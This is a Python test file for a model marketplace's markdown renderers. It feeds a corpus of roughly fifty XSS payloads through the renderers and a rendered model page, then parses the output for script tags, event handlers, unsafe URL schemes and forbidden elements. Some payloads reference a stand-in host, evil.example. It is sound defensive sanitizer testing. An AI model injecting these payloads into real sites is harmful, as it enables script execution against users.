"""A corpus of hostile markdown rendered through the README and description renderers, and
through a model page: the output is parsed as HTML and must hold no active content."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from marketplace.catalog.models import Model
from marketplace.web.rendering import inline_markdown, markdown_html
from tests.factories import publish

CORPUS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('XSS')</script>",
    "[click](javascript:alert('XSS'))",
    "[click](JaVaScRiPt:alert('XSS'))",
    "[click](  javascript:alert('XSS'))",
    "[click](java\tscript:alert('XSS'))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert('XSS'))",
    "[click](vbscript:msgbox('XSS'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=)",
    "![img](javascript:alert('XSS'))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ1hTUycpPg==)",
    "<a href=\"javascript:alert('XSS')\">x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>XSS</a>",
    "<img src=x onerror=\"alert('XSS')\">",
    "<img src=x OnError=alert('XSS')>",
    "<img/src=x/onerror=alert('XSS')>",
    "<p onclick=\"alert('XSS')\">x</p>",
    "<div onmouseover=alert('XSS')>hover</div>",
    "<body onload=alert('XSS')>",
    "<svg onload=alert('XSS')><circle r=1 /></svg>",
    "<svg><script>alert('XSS')</script></svg>",
    "<math><mtext><script>alert('XSS')</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<embed src=\"javascript:alert('XSS')\">",
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    "<button formaction=javascript:alert('XSS')>x</button>",
    "<style>body{background:url(javascript:alert('XSS'))}</style>",
    "<p style=\"background:url(javascript:alert('XSS'))\">x</p>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay XSS</span>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\')">',
    '<base href="https://evil.example/">',
    "<template><script>alert('XSS')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\"></noscript>",
    "<!--<img src=x onerror=alert('XSS')>-->",
    '<a href="https://ok.example" target="_blank">ok</a>',
    "[ref]: javascript:alert('XSS')\n\n[link][ref]",
    "```html\n<script>alert('XSS')</script>\n```",
    "`<img src=x onerror=alert('XSS')>`",
    "<table><tr><td background=\"javascript:alert('XSS')\">x</td></tr></table>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115cript:alert('XSS')\">x</a>",
    '<img src="x" srcset="javascript:alert(\'XSS\') 1x">',
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<isindex action=javascript:alert('XSS') type=submit>",
    "<input autofocus onfocus=alert('XSS')>",
    "<xss id=x tabindex=1 onfocusin=alert('XSS')></xss>",
]

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "form", "input", "button", "textarea", "select", "link", "meta", "base", "template",
    "isindex", "noscript", "body", "html", "video", "audio", "source",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "data", "srcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
C0_AND_SPACE = "".join(chr(c) for c in range(0x21))


class Audit(HTMLParser):
    """Collects every element and attribute that could run code or restyle the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and value and not url_is_safe(value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.script_bodies.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


def url_is_safe(value: str) -> bool:
    # What a browser does (WHATWG URL parsing): entity-decode, strip leading and trailing
    # controls and spaces, remove tabs and newlines anywhere, compare the scheme lower-cased.
    cleaned = re.sub(r"[\t\n\r]", "", html.unescape(value).strip(C0_AND_SPACE)).lower()
    match = re.match(r"^([a-z][a-z0-9+.-]*):", cleaned)
    return match is None or match.group(1) in SAFE_SCHEMES


def audit(fragment: str) -> list[str]:
    parser = Audit()
    parser.feed(fragment)
    parser.close()
    return parser.problems


def test_the_auditor_notices_what_it_looks_for() -> None:
    assert audit("<a href=' JaVa&#x09;script:x'>x</a>") and audit("<p onclick=x>")
    assert audit("<svg/>") and audit("<p style=x>") and not audit("<a href='/x'>ok</a>")


@pytest.mark.parametrize("source", CORPUS)
def test_readme_renderer_drops_active_content(source: str) -> None:
    assert audit(str(markdown_html(source))) == []
    assert audit(str(inline_markdown(source))) == []


def test_whole_corpus_on_a_model_page_runs_nothing(client: Client, user: Any) -> None:
    version = publish(user, "hello")
    readme = "\n\n".join(CORPUS)
    Model.objects.filter(pk=version.model_id).update(
        readme=readme, description="<img src=x onerror=alert('XSS')> **desc**"
    )
    response = client.get(f"/{user.username}/hello")
    assert response.status_code == 200
    parser = Audit()
    parser.feed(response.content.decode())
    # The page's own markup is trusted; anything from the corpus would carry its marker.
    page_problems = [p for p in parser.problems if "XSS" in p or "evil" in p]
    assert page_problems == []
    assert not any("XSS" in body for body in parser.script_bodies)
    assert "<img src=x onerror" not in response.content.decode()
